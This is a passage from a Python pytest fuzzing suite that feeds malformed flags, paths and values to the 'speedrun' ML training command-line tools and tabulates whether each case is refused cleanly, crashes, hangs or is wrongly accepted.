        words += ["--resume", rng.choice(["", "/", "/nowhere", str(m.data), str(m.run / "log.txt"), "é\udcff", "x" * 5000])]  # fmt: skip
    out = rng.choice([str(m.work / "out")] * 8 + ["/proc/x", "/dev/null", "/dev/null/x", str(m.work / "é 😀\udcff"), str(m.run / "log.txt"), str(m.work / ("x" * 300))])  # fmt: skip
    rest = ["--no-compile"] if "--compile=False" not in words else []
    said = run_command("speedrun.train", [*TINY, "--steps", "2", "--data.path", str(m.data), *words, *rest, "--max-steps", "2", "--out", out])  # fmt: skip
    return judge(said, right, said.out + said.err) | {"case": ascii([*words, out])[:400]}


def launch(rng: random.Random, m: Material) -> dict:
    """Odd flags to the plan of a launch."""
    words, _, right = flag_pairs(rng, rng.choice((0, 1, 1, 2)))
    if rng.random() < 0.7:
        words = ["--preset", rng.choice(["smoke", "cpu", "small", "record", "record1", "record11", *VALUES]), *words]  # fmt: skip
    if rng.random() < 0.4:
        gpus = rng.choice(VALUES)
        words += ["--gpus", gpus]
        right = right and not wrong_number(gpus)
    if rng.random() < 0.15:
        words.append(rng.choice(NEIGHBOURS))
    said = run_command("speedrun.launch", [*words, "--plan"])
    return judge(said, right, said.out + said.err) | {"case": ascii(words)[:400]}


def sample(rng: random.Random, m: Material) -> dict:
    """Odd flags and folders to a sample."""
    shutil.copytree(m.run, m.work / "run")
    words = [rng.choice([str(m.work / "run")] * 6 + ["/nowhere", str(m.data), "/etc", "/dev/null", "", "x" * 5000, "é\udcff", str(m.run / "log.txt")])]  # fmt: skip
    right = True
    for flag in rng.sample(("--prompt", "--temperature", "--top-k", "--seed", "--device"), rng.choice((1, 1, 2))):  # fmt: skip
        value = rng.choice(VALUES)
        words += [f"{flag}={value}"] if rng.random() < 0.5 else [flag, value]
        right = right and not (flag != "--prompt" and wrong_number(value))
    tokens = rng.choice(("2", "2", "2", "0", "-1", "x", "nan", "1e3"))
    words += [f"--tokens={tokens}"]
    if rng.random() < 0.1:
        words.append(rng.choice(NEIGHBOURS))
    said = run_command("speedrun.sample", words)
    return judge(said, right and tokens != "-1", said.err) | {"case": ascii(words)[:400]}


def data(rng: random.Random, m: Material) -> dict:
    """Odd inputs to pack, manifest and verify."""
    command, places = rng.choice(("pack", "manifest", "verify")), ["/nowhere", "/dev/null", "", "/etc", "x" * 5000, "é\udcff", "/proc/x", str(m.texts / "1.txt")]  # fmt: skip
    right = True
    if command == "pack":
        texts = [str(m.texts / name) for name in ("1.txt", "2.txt", "3.txt", "b.jsonl", "latin1.txt", "")]  # fmt: skip
        share = rng.choice([*VALUES, "0.5", "0.3", "0.05"])
        words = [*(rng.choice([*texts[:4] * 3, *texts, *places]) for _ in range(rng.choice((1, 2, 3)))), "--out", rng.choice([str(m.work / "p")] * 6 + places[:2] + places[4:]), "--tokenizer", rng.choice(("bytes", "bytes", "gpt2", "x")), "--validation", share]  # fmt: skip
        right = not wrong_number(share)
    elif command == "manifest":
        shutil.copytree(m.data, m.work / "m")
        words = [rng.choice([str(m.work / "m")] * 4 + places), "--tokenizer", rng.choice(("bytes", "gpt2", "x")), "--source", rng.choice(VALUES)]  # fmt: skip
    else:
        words = [rng.choice([str(m.data), str(m.data / "manifest.json"), *places])]
    if rng.random() < 0.1:
        words.append(rng.choice(NEIGHBOURS))
    said = run_command("speedrun.data", [command, *words])
    return judge(said, right, said.out + said.err) | {"case": ascii([command, *words])[:400]}


# %% All of it
KINDS: dict[str, tuple[Callable[[random.Random, Material], dict], float, int, str]] = {
    # name: function, share of the cases, cases a child, what it is
    "shard-train": (shard_train, 0.125, 20, "damaged shard, read as training does"),
    "shard-documents": (shard_documents, 0.0625, 50, "… documents mode"),
    "shard-verify": (shard_verify, 0.125, 50, "… `data verify`"),
    "manifest-train": (manifest_train, 0.125, 20, "manifest.json, as training"),
    "manifest-verify": (manifest_verify, 0.1, 50, "… `data verify`"),
    "checkpoint-resume": (checkpoint_resume, 0.075, 1, "checkpoint, resume + 2 steps"),
    "checkpoint-sample": (checkpoint_sample, 0.0625, 1, "checkpoint, sample"),
    "config": (config, 0.225, 100, "config_from_json + check_config"),
    "train": (train, 0.025, 1, "speedrun.train flags"),
    "launch": (launch, 0.025, 20, "speedrun.launch --plan"),
    "sample": (sample, 0.025, 10, "speedrun.sample flags"),
    "data": (data, 0.025, 20, "speedrun.data pack, manifest, verify"),
}


def case_of(kind: str, number: int, home: Path, work: Path, seed: int) -> dict:
    """One case, in a folder of its own."""
    folder = work / f"{kind}-{number}"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    os.chdir(folder)
    try:
        return KINDS[kind][0](random.Random(f"{seed} {kind} {number}"), material(home, folder))
    finally:
        os.chdir(work)
        shutil.rmtree(folder, ignore_errors=True)


def work_through(home: str, counts: dict[str, int], worker: int, workers: int, seed: int) -> None:
    """A worker's share of all cases, each answer a line of JSON."""
    base, work = Path(home), Path(home) / f"worker-{worker}"
    work.mkdir(exist_ok=True)
    zygote.preload(
        ("speedrun.sample", [str(base / "whole"), "--tokens", "1"]),
        ("speedrun.train", ["--resume", str(base / "whole")]),
        (
            "speedrun.train",
            [
                *TINY,
                "--steps",
                "1",
                "--optim.matrices",
                "muon",
                "--data.path",
                str(base / "data"),
                "--out",
                str(work / "example"),
            ],
        ),  # fmt: skip
    )
    for kind, count in counts.items():
        numbers = list(range(worker, count, workers))
        found = zygote.judged(lambda n, kind=kind: case_of(kind, n, base, work, seed), numbers, KINDS[kind][2], work / "last words")  # fmt: skip
        began = time.monotonic()
        for answer in found:
            now = time.monotonic()
            print(json.dumps({"kind": kind, "seconds": now - began, **answer}), flush=True)
            began = now


def attack(counts: dict[str, int], home: Path, limit_s: float) -> list[dict]:
    """All cases, by several zygotes."""
    if not (home / "ending.json").exists():
        zygote.zygotes("test_fuzz", "make_material", [[str(home)]], home, 120)
    workers = int(os.environ.get("FUZZ_WORKERS", "2"))
    inputs = [[str(home), counts, worker, workers, SEED] for worker in range(workers)]
    return zygote.zygotes("test_fuzz", "work_through", inputs, home, limit_s)


def table(answers: list[dict]) -> str:
    """Cases by kind and verdict, as a table of Markdown."""
    counts: dict[str, Counter] = defaultdict(Counter)
    for answer in answers:
        counts[answer["kind"]][answer["verdict"]] += 1
    rows = [["what", "cases", *VERDICTS]]
    for kind, (*_, what) in KINDS.items():
        if kind in counts:
            rows.append([what, f"{counts[kind].total():,}", *(f"{counts[kind][v]:,}" for v in VERDICTS)])  # fmt: skip
    whole = sum(counts.values(), Counter())
    rows.append(["**together**", f"{whole.total():,}", *(f"{whole[v]:,}" for v in VERDICTS)])
    lines = ["| " + " | ".join(row) + " |" for row in rows]
    return "\n".join([lines[0], "|" + " --- |" * len(rows[0]), *lines[1:]])


def place(answer: dict) -> str:
    """What failures are told apart by: the line that raised; else what was damaged, without values and numbers."""
    if answer["place"]:
        return answer["place"]
    case = answer["case"]
    if case.startswith("["):  # a command line
        return " ".join(sorted(set(re.findall(r"--[\w.-]+", case)))) or case[:40]
    case = re.sub(r" = .*?(?=, [\w.]+ = |, and |$)| at \d+", "", case)
    return re.sub(r"\d+", "N", re.sub(r"safetensors: [^:]*: ", "safetensors: ", case))


def failures(answers: list[dict]) -> str:
    """What went wrong, one line for each place: how often, the smallest case, and how to see it again."""
    places: dict[tuple, list[dict]] = defaultdict(list)
    for answer in answers:
        if answer["verdict"] not in GOOD:
            places[answer["kind"], answer["verdict"], place(answer)].append(answer)
    lines = []
    for (kind, verdict, where), found in sorted(places.items(), key=lambda item: (item[0][:2], -len(item[1]))):  # fmt: skip
        least = min(found, key=lambda answer: len(answer.get("case", "")))
        lines.append(f"{len(found)} × {verdict} in {kind}: {where}; {least.get('case', '')[:160]}\n    python tests/test_fuzz.py {kind} {least['number']}")  # fmt: skip
    return "\n".join(lines)


def show(request: pytest.FixtureRequest, text: str) -> None:
    """Print past pytest's capture."""
    with request.config.pluginmanager.getplugin("capturemanager").global_and_fixture_disabled():
        sys.stdout.write(f"\n{text}\n")


pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="fork, and /proc")
ALL: list[dict] = []


@pytest.fixture(scope="module")
def home(tmp_path_factory, request) -> Path:
    """Where the material lies; afterwards the table of all that was tried is printed."""
    folder = tmp_path_factory.mktemp("fuzz")
    yield folder
    if ALL:
        text = f"{table(ALL)}\n\nseed {SEED}\n{failures(ALL)}"
        show(request, text)
        (zygote.ROOT / "_build").mkdir(exist_ok=True)
        (zygote.ROOT / "_build" / "fuzz.md").write_text(text + "\n", errors="backslashreplace")


@pytest.mark.fuzz
@pytest.mark.timeout(5400)
@pytest.mark.parametrize("kind", KINDS)
def test_damage_is_refused_or_harmless(kind, home):
    count = round(int(os.environ.get("FUZZ_CASES", "20000")) * KINDS[kind][1])
    answers = attack({kind: count}, home, 5000)
    ALL.extend(answers)
    assert len(answers) == count
    assert not (wrong := failures(answers)), wrong


@pytest.mark.slow
def test_a_fixed_sample_of_all_kinds(home):
    """The first 3 of each 100 cases of every kind."""
    counts = {kind: round(600 * share) for kind, (_, share, *_) in KINDS.items()}
    answers = attack(counts, home, 240)
    ALL.extend(answers)
    assert len(answers) == sum(counts.values()) >= 590
    assert not (wrong := failures(answers)), wrong


def ends(number: int) -> dict:
    """Cases that end as a broken command would."""
    if number == 1:
        os.kill(os.getpid(), signal.SIGSEGV)
    if number == 2:
        time.sleep(600)
    if number == 4:
        os._exit(70)
    return {"verdict": "clean", "place": ""}


def judge_ends(words: str) -> None:
    for answer in zygote.judged(ends, list(range(6)), 6, Path(words), limit_s=2.0):
        print(json.dumps(answer), flush=True)


@pytest.mark.slow
def test_a_crash_and_a_hang_are_noticed_and_the_others_judged(tmp_path):
    answers = zygote.zygotes("test_fuzz", "judge_ends", [[str(tmp_path / "words")]], tmp_path, 120)
    found = {answer["number"]: (answer["verdict"], answer["place"]) for answer in answers}
    assert [found[n][0] for n in range(6)] == ["clean", "crash", "hang", "clean", "crash", "clean"]
    assert found[1][1].startswith("SIGSEGV at test_fuzz.py") and "ends" in found[1][1]
    assert "ends" in found[2][1] and found[4][1].startswith("status 70")


@pytest.mark.slow
def test_what_a_command_says_is_judged():
    said = Said(1, "", "x: 3\n  → 2 or more\n")
    assert judge(said, False, said.err)["verdict"] == "clean"
    assert judge(said, False, said.err, must=True)["verdict"] == "wrongly refused"
    assert judge(Said(1, "", "x: 3\n"), False, "x: 3\n")["verdict"] == "mute"
    assert judge(said, False, said.err + "\x1b[2J")["verdict"] == "mute"
    assert judge(Said(0, "done", ""), True, "done")["verdict"] == "accepted"
    assert judge(Said(0, "done", ""), False, "done")["verdict"] == "wrongly accepted"
    caught = call(lambda: {}["a"])
    assert caught.place.startswith("KeyError at test_fuzz.py")
    assert judge(caught, True, "")["verdict"] == "traceback"
    assert call(lambda: print("\ud800")).place.startswith("UnicodeEncodeError")


def again(kind: str, number: int) -> None:
    """One case once more, here: what it was, what the command said, its traceback."""
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        home = Path(folder)
        zygote.zygotes("test_fuzz", "make_material", [[folder]], home, 120)
        zygote.preload()
        kept: list[Said] = []
        original = globals()["judge"]
        globals()["judge"] = lambda said, *rest: (kept.append(said), original(said, *rest))[1]
        answer = case_of(kind, number, home, home / "again", SEED)
        for said in kept:
            print(said.out, said.err, said.trace, f"status {said.status}", sep="\n")
        print(json.dumps(answer, indent=1))


if __name__ == "__main__":
    again(sys.argv[1], int(sys.argv[2]))
